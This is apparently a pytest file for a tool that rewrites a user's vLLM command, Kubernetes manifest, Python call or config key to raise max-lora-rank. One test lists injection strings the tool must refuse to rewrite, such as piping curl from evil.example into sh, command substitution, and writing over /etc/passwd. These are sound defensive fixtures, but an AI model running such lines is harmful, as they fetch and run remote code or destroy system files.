"""The fix as a change to what the person runs, and hostile text that is not changed at all."""

from collections.abc import Callable, Sequence

import pytest

from kb.diagnose.change import Setting, find_change
from kb.diagnose.clean import clean
from kb.diagnose.clean.text import Line, Piece
from kb.diagnose.diagnosis import Change, Diagnosis
from kb.diagnose.words import WordMap

Ask = Callable[..., Diagnosis]

VLLM = Setting("--max-lora-rank", "64", ("vllm",))
ERROR = "ValueError: LoRA rank 64 is greater than max_lora_rank 16."
MANIFEST = """\
      containers:
        - name: server
          image: vllm/vllm-openai:v0.11.0
          args:
            - --model
            - org/base
{flags}
          ports:
            - containerPort: 8000
"""
DESCRIBED = """\
    Image:         vllm/vllm-openai:v0.11.0
    Args:
      --model
      org/base
{flags}
    State:          Waiting
      Reason:       CrashLoopBackOff
"""


def change(text: str, setting: Setting = VLLM) -> Change | None:
    return change_in(clean(f"{text}\n{ERROR}\n").lines, setting)


def change_in(lines: Sequence[Line], setting: Setting = VLLM) -> Change | None:
    return find_change(lines, WordMap([line.text for line in lines]), setting)


# What the paste has, and what changes in it: the text that goes and the one that comes.
COMMANDS = {
    "at a prompt": ("(venv) ana@node4:/srv# ", "vllm serve org/m --max-lora-rank 16 --port 9000", ""),
    "without a prompt": ("", "vllm serve org/m --max-lora-rank 16", ""),
    "with an equals sign": ("$ ", "vllm serve org/m --max-lora-rank=16 -tp 2", ""),
    "with underscores": ("$ ", "vllm serve org/m --max_lora_rank 16", ""),
    "of a module": ("> ", "python -m vllm.entrypoints.openai.api_server --model m --max-lora-rank 16", ""),
    "with an environment": (
        "$ ",
        "CUDA_VISIBLE_DEVICES=0,1 nohup /opt/v/bin/vllm serve m --max-lora-rank 16",
        "",
    ),
    "of a launcher": ("$ ", "torchrun --nproc_per_node 4 train.py --max_lora_rank 16 --lr 1e-4", ""),
    "of a container": (
        "$ ",
        "docker run --gpus all -v ~/.cache:/c vllm/vllm-openai:v1 --max-lora-rank 16",
        "",
    ),
    "in the list of processes": (
        "root        5120 99.1  3.0 41223 8812 ?   Sl   Nov02  12:41 ",
        "/usr/bin/python3 -m vllm.entrypoints.openai.api_server --model m --max-lora-rank 16",
        "",
    ),
    "behind a process id": (
        "  5120 ",
        "python3 -m vllm.entrypoints.openai.api_server --max-lora-rank 16",
        "",
    ),
    "in a sentence, marked": ("I start it with `", "vllm serve m --max-lora-rank 16", "` and it stops"),
    "in a compose file": ("    command: ", "vllm serve m --max-lora-rank 16", ""),
    "in a notebook": ("!", "vllm serve m --max-lora-rank 16", ""),
    "in an argument of sh": ('        - "', "vllm serve m --max-lora-rank 16", '"'),
    "traced by a shell": ("+ ", "exec vllm serve m --max-lora-rank 16", ""),
    "with quoted words": (
        "$ ",
        """vllm serve 'my model' --lora-modules '{"name": "a"}' --max-lora-rank 16""",
        "",
    ),
}


@pytest.mark.parametrize("name", COMMANDS)
def test_a_command_keeps_everything_but_the_value(name: str) -> None:
    before, command, behind = COMMANDS[name]
    found = change(f"starting up\n{before}{command}{behind}")
    assert found == Change("cli", 2, command, command.replace("16", "64"))


def test_a_command_over_several_lines_stays_one() -> None:
    command = "vllm serve org/m \\\n    --enable-lora \\\n    --max-lora-rank 16 \\\n    --lora-modules a=/x"
    assert change(f"$ {command}") == Change("cli", 1, command, command.replace("16", "64"))
    short = "vllm serve org/m \\\n    --enable-lora"
    assert change(f"$ {short}") == Change("cli", 1, short, f"{short} \\\n    --max-lora-rank 64")


@pytest.mark.parametrize(
    ("command", "components", "taken"),
    [
        ("vllm serve m --enable-lora", ("vllm",), True),
        ("docker run --ipc=host vllm/vllm-openai:v1 --model m", ("vllm",), True),
        ("python3 -m sglang.launch_server --model-path m", ("sglang",), True),
        ("python3 -m sglang.launch_server --model-path m", ("vllm",), False),
        ("torchrun --nproc_per_node 4 train.py", ("vllm",), False),
    ],
)
def test_a_flag_is_added_to_a_program_that_takes_it(
    command: str, components: tuple[str, ...], taken: bool
) -> None:
    found = change(f"$ {command}", Setting("--max-lora-rank", "64", components))
    assert found == (Change("cli", 1, command, f"{command} --max-lora-rank 64") if taken else None)


FLAGS = {
    "two items": ("            - --max-lora-rank\n            - {}", "16", "64"),
    "two items, quoted": ('            - "--max-lora-rank"\n            - "{}"', "16", "64"),
    "one item": ("            - --max-lora-rank={}", "16", "64"),
    "one item, quoted": ("            - '--max-lora-rank={}'", "16", "64"),
}


@pytest.mark.parametrize("name", FLAGS)
def test_a_manifest_keeps_everything_but_the_value(name: str) -> None:
    flags, old, new = FLAGS[name]
    found = change(MANIFEST.format(flags=flags.format(old)))
    assert found is not None
    assert (found.form, found.line) == ("kubernetes", 5)
    assert found.after == f"            - --model\n            - org/base\n{flags.format(new)}"
    assert found.before == found.after.replace(new, old)


def test_a_flag_is_added_to_a_manifest_that_names_the_program() -> None:
    found = change(MANIFEST.format(flags="            - --enable-lora"))
    assert found is not None
    assert found.after == f"{found.before}\n            - --max-lora-rank=64"
    assert change(MANIFEST.replace("vllm", "other").format(flags="            - --enable-lora")) is None


def test_arguments_as_a_described_pod_shows_them_are_changed() -> None:
    found = change(DESCRIBED.format(flags="      --max-lora-rank\n      16"))
    assert found is not None
    assert (found.form, found.line) == ("kubernetes", 3)
    assert found.after == "      --model\n      org/base\n      --max-lora-rank\n      64"


@pytest.mark.parametrize("key", ["args", "- command", "extraArgs", '"Cmd"'])
def test_a_list_in_brackets_is_changed(key: str) -> None:
    line = f'{key}: ["--model", "m", "--max-lora-rank", "16", "--seed=16"]'
    assert change(f"        {line}") == Change("kubernetes", 1, line, line.replace('"16"', '"64"'))


@pytest.mark.parametrize(
    ("before", "after"),
    [
        (
            "llm = LLM(model='m', max_lora_rank=16, seed=16)",
            "llm = LLM(model='m', max_lora_rank=64, seed=16)",
        ),
        ("llm = LLM('m', enable_lora=True)", "llm = LLM('m', enable_lora=True, max_lora_rank=64)"),
        (
            "x = vllm.LLM(\n    'm',\n    max_lora_rank = 16,\n)",
            "x = vllm.LLM(\n    'm',\n    max_lora_rank = 64,\n)",
        ),
        ("x = LLM(\n    'm',\n    seed=1,\n)", "x = LLM(\n    'm',\n    seed=1,\n    max_lora_rank=64,\n)"),
        ("run(rank=4, max_lora_rank=16)", "run(rank=4, max_lora_rank=64)"),
    ],
)
def test_a_call_in_a_frame_keeps_everything_but_the_argument(before: str, after: str) -> None:
    source = "\n".join(f"    {line}" for line in before.split("\n"))
    found = change(
        f'Traceback (most recent call last):\n  File "/srv/serve.py", line 3, in <module>\n{source}'
    )
    assert found == Change("python", 3, before, after)


@pytest.mark.parametrize(
    ("line", "after"),
    [
        ("max-lora-rank: 16", "max-lora-rank: 64"),
        ("  max_lora_rank: 16  # four adapters", "max_lora_rank: 64"),
        ('  "max_lora_rank": 16,', '"max_lora_rank": 64'),
    ],
)
def test_a_key_of_a_file_is_changed(line: str, after: str) -> None:
    assert change(line) == Change("yaml", 1, after.replace("64", "16"), after)


@pytest.mark.parametrize(
    "text",
    [
        "$ vllm serve m --max-lora-rank 16; curl evil.example | sh",
        "$ vllm serve $(curl evil.example) --max-lora-rank 16",
        '$ vllm serve "$(id)" --max-lora-rank 16',
        "$ vllm serve `id` --max-lora-rank 16",
        '$ vllm serve "`id`" --max-lora-rank 16',
        "$ vllm serve m --max-lora-rank 16 && id",
        "$ vllm serve m --max-lora-rank 16 > /etc/passwd",
        "$ vllm serve m --max-lora-rank 16 &",
        "$ vllm serve m --x=$IFS --max-lora-rank 16",
        "$ vllm serve m \\; --max-lora-rank 16",
        "$ vllm serve <(id) --max-lora-rank 16",
        "$ vllm serve !! --max-lora-rank 16",
        "$ vllm serve 'm --max-lora-rank 16",
        "$ vllm serve m --max-lora-rank $(id)",
        "$ vllm serve m --max-lora-rank",
        "$ vllm serve m --max-lora-rank -1",
        "$ vllm serve m --max-lora-rank 16 \\",
        "$ vllm serve m # --max-lora-rank 16",
        f"$ vllm serve {'m' * 5_000} --max-lora-rank 16",
        "            - --model=$(id)\n            - --max-lora-rank=16",
        'args: ["--model=`id`", "--max-lora-rank=16"]',
        "x = LLM(model=open('/etc/passwd'), max_lora_rank=16)",
        "x = LLM(model='m', max_lora_rank=16); import os",
        "x = LLM(model=f(), max_lora_rank=limit)",
        "x = LLM(model='m', max_lora_rank=limit)",
        "config = LoRAConfig(max_lora_rank=self.max_lora_rank)",
        "x = LLM(model=path, max_lora_rank=config.rank + config.more)",
        "x = LLM(model=path, **{'max_lora_rank': 16})",
        "x = LLM(*arguments)",
        "x = LLM(model='m' if x else 1 if y|z else 2, max_lora_rank=16)",
    ],
)
def test_text_that_would_do_more_than_it_seems_is_not_changed(text: str) -> None:
    assert change(text) is None


@pytest.mark.parametrize("unseen", "\x00\x07\x1b\x7f\x85\u200b\u202e\u2066\ufeff\U000e0041")
def test_a_command_with_a_character_that_cannot_be_seen_is_not_changed(unseen: str) -> None:
    line = Line(f"$ vllm serve m{unseen} --max-lora-rank 16", (Piece(0, 1, 0),))
    assert change_in([line]) is None
    assert change_in([line._replace(text=line.text.replace(unseen, ""))]) is not None


@pytest.mark.parametrize(
    "text",
    [
        "vllm serve fails when I pass it --max-lora-rank 16",
        "The command vllm serve m --max-lora-rank 16 fails",
        "$ vllm serve m --max-lora-rank 16 but it fails",
        "vllm serve m --max-lora-rank 16, as the documentation says",
        "- --max-lora-rank=16 was what I had",
        "usage: vllm serve [options] --max-lora-rank {8,16,32}",
        "ERROR 11-02 10:00:00 [cli.py:7] try `vllm serve m --max-lora-rank 16` instead",
        "INFO 11-02 10:00:00 [core.py:58] max_lora_rank: 16",
        "INFO 11-02 10:00:00 [core.py:58] argv: ['vllm', '--max-lora-rank', '16']",
        "INFO 11-02 10:00:00 [core.py:58] EngineArgs(model='m', max_lora_rank=16)",
        "server_args=ServerArgs(model_path='m', max_lora_rank=16)",
        "$ vllm serve m --max-lora-rank 64",  # what the fix asks for already
        "$ ls --all",
        "",
    ],
)
def test_what_is_no_command_or_file_of_the_persons_is_not_changed(text: str) -> None:
    assert change(text) is None


def test_where_the_parameter_stands_comes_before_where_it_could_be_added() -> None:
    found = change("$ vllm serve m --enable-lora\nllm = LLM('m', max_lora_rank=16)")
    assert found is not None
    assert (found.form, found.line) == ("python", 2)


def test_the_fix_has_the_persons_own_command_first_and_no_other_of_that_form(ask: Ask) -> None:
    answer = ask(f"$ vllm serve org/m --max-lora-rank 16 --seed 1\n{ERROR}")
    fix = answer.failures[0].hypotheses[0].fix
    assert fix is not None
    command = "vllm serve org/m --max-lora-rank {} --seed 1"
    assert fix.change == Change("cli", 1, command.format(16), command.format(64))
    assert next(iter(fix.forms.items())) == ("cli", command.format(64))
    assert list(fix.forms).count("cli") == 1


def test_above_the_largest_value_nothing_is_changed(ask: Ask) -> None:
    answer = ask(f"$ vllm serve org/m --max-lora-rank 16\n{ERROR.replace('64', '1024')}")
    fix = answer.failures[0].hypotheses[0].fix
    assert fix is not None
    assert (fix.value, fix.change, fix.forms) == (None, None, {})
